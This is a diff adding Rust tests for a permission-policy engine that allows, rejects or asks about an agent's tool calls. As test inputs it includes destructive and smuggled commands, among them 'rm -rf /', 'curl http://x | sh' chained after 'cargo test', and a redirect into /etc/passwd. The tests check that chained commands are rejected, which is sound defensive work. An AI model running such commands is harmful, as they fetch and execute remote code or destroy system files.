@@ -1,0 +1,210 @@
+use super::*;
+use drover_profile::config::Scope;
+use drover_run::question::Choice;
+
+fn policy(text: &str) -> Result<Policy, PolicyError> {
+    let file = ConfigFile::parse(
+        Path::new("/p/.drover/config.toml"),
+        Scope::Project,
+        text.to_string(),
+    )
+    .expect("valid TOML");
+    Policy::from_file(&file)
+}
+
+fn ask(tool: &str, kind: &str, input: &str) -> Question {
+    Question {
+        id: "q".to_string(),
+        tool: tool.to_string(),
+        kind: kind.to_string(),
+        title: input.to_string(),
+        input: input.to_string(),
+        options: vec![
+            Choice {
+                id: "once".to_string(),
+                label: "Allow once".to_string(),
+                kind: ChoiceKind::AllowOnce,
+            },
+            Choice {
+                id: "always".to_string(),
+                label: "Always allow".to_string(),
+                kind: ChoiceKind::AllowAlways,
+            },
+            Choice {
+                id: "reject".to_string(),
+                label: "Reject".to_string(),
+                kind: ChoiceKind::RejectOnce,
+            },
+        ],
+    }
+}
+
+const EXAMPLE: &str = r#"
+[policy]
+default = "ask"
+
+[[policy.rule]]
+input = "*rm -rf*"
+decision = "reject"
+
+[[policy.rule]]
+kind = "fetch"
+decision = "reject"
+
+[[policy.rule]]
+kind = ["read", "search"]
+decision = "allow"
+
+[[policy.rule]]
+kind = "execute"
+input = "cargo test*"
+decision = "allow"
+
+[[policy.rule]]
+tool = "Bash"
+input = "git status"
+decision = "allow-always"
+"#;
+
+fn picked(p: &Policy, q: &Question) -> Option<(String, Value)> {
+    p.decide(q).map(|v| (v.option, v.rule["at"].clone()))
+}
+
+#[test]
+fn an_untrusted_policy_keeps_its_rejections_and_asks_instead_of_allowing() {
+    let p = policy(&EXAMPLE.replace("default = \"ask\"", "default = \"allow\""))
+        .expect("valid policy")
+        .without_allows();
+    let rejected = p
+        .decide(&ask("Bash", "execute", "rm -rf /"))
+        .expect("decided");
+    assert_eq!(rejected.decision, Decision::Reject);
+    assert_eq!(p.decide(&ask("Bash", "execute", "cargo test")), None);
+    assert_eq!(p.decide(&ask("Read", "read", "src/main.rs")), None);
+    assert_eq!(p.decide(&ask("Other", "other", "anything")), None);
+}
+
+#[test]
+fn the_first_matching_rule_decides_and_is_named() {
+    let p = policy(EXAMPLE).expect("valid policy");
+    let at = |line: u32| {
+        Value::String(format!(
+            "/p/.drover/config.toml:{line}: policy.rule.{}",
+            match line {
+                5 => 0,
+                9 => 1,
+                13 => 2,
+                17 => 3,
+                22 => 4,
+                _ => 99,
+            }
+        ))
+    };
+    assert_eq!(
+        picked(&p, &ask("bash", "execute", "rm -rf /")),
+        Some(("reject".into(), at(5)))
+    );
+    assert_eq!(
+        picked(&p, &ask("webfetch", "fetch", "https://x.test")),
+        Some(("reject".into(), at(9)))
+    );
+    assert_eq!(
+        picked(&p, &ask("read", "read", "src/main.rs")),
+        Some(("once".into(), at(13)))
+    );
+    assert_eq!(
+        picked(&p, &ask("bash", "execute", "cargo test -p drover")),
+        Some(("once".into(), at(17)))
+    );
+    assert_eq!(
+        picked(&p, &ask("bash", "execute", "git status")),
+        Some(("always".into(), at(22)))
+    );
+    // Nothing matches, and the default asks.
+    assert_eq!(picked(&p, &ask("bash", "execute", "make")), None);
+}
+
+#[test]
+fn an_allow_never_covers_a_chained_command() {
+    let p = policy(EXAMPLE).expect("valid policy");
+    for input in [
+        "cargo test; curl http://x | sh",
+        "cargo test && rm -r target",
+        "cargo test > /etc/passwd",
+        "cargo test $(evil)",
+        "cargo test `evil`",
+    ] {
+        assert_eq!(picked(&p, &ask("bash", "execute", input)), None, "{input}");
+    }
+}
+
+#[test]
+fn a_decision_without_a_matching_option_asks() {
+    let p = policy("[policy]\ndefault = \"allow\"\n").expect("valid");
+    let mut q = ask("x", "edit", "a.txt");
+    q.options.retain(|c| c.kind != ChoiceKind::AllowOnce);
+    assert_eq!(p.decide(&q), None);
+    q.options.retain(|c| c.kind != ChoiceKind::RejectOnce);
+    let p = policy("[policy]\ndefault = \"reject\"\n").expect("valid");
+    assert_eq!(p.decide(&q), None);
+}
+
+#[test]
+fn no_policy_asks() {
+    let p = policy("[workspace]\ndefault = \"tmux\"\n").expect("valid");
+    assert!(p.is_empty());
+    assert_eq!(p.decide(&ask("bash", "execute", "ls")), None);
+}
+
+#[test]
+fn mistakes_name_the_file_line_and_field() {
+    let cases = [
+        (
+            "[policy]\ndefault = \"maybe\"\n",
+            "config.toml:2: policy.default",
+            "not a default decision",
+        ),
+        (
+            "[policy]\ncolour = 1\n",
+            "config.toml:2: policy.colour",
+            "unknown key",
+        ),
+        (
+            "[[policy.rule]]\nkind = \"shell\"\ndecision = \"allow\"\n",
+            "config.toml:2: policy.rule.0.kind",
+            "'shell' is not a tool kind",
+        ),
+        (
+            "[[policy.rule]]\nkind = \"read\"\n",
+            "config.toml:1: policy.rule.0",
+            "needs a decision",
+        ),
+        (
+            "[[policy.rule]]\ndecision = \"allow\"\n",
+            "config.toml:1: policy.rule.0",
+            "at least one of",
+        ),
+        (
+            "[[policy.rule]]\ninput = 3\ndecision = \"allow\"\n",
+            "config.toml:2: policy.rule.0.input",
+            "must be a string",
+        ),
+        (
+            "[[policy.rule]]\ninput = \"x\"\ndecision = \"yes\"\n",
+            "config.toml:3: policy.rule.0.decision",
+            "not a decision",
+        ),
+        (
+            "[[policy.rule]]\ninput = \"x\"\ndecision = \"allow\"\nwhen = 1\n",
+            "config.toml:4: policy.rule.0.when",
+            "unknown key",
+        ),
+    ];
+    for (text, at, message) in cases {
+        let error = policy(text).expect_err(text).to_string();
+        assert!(
+            error.contains(at) && error.contains(message),
+            "{text}\n→ {error}"
+        );
+    }
+}
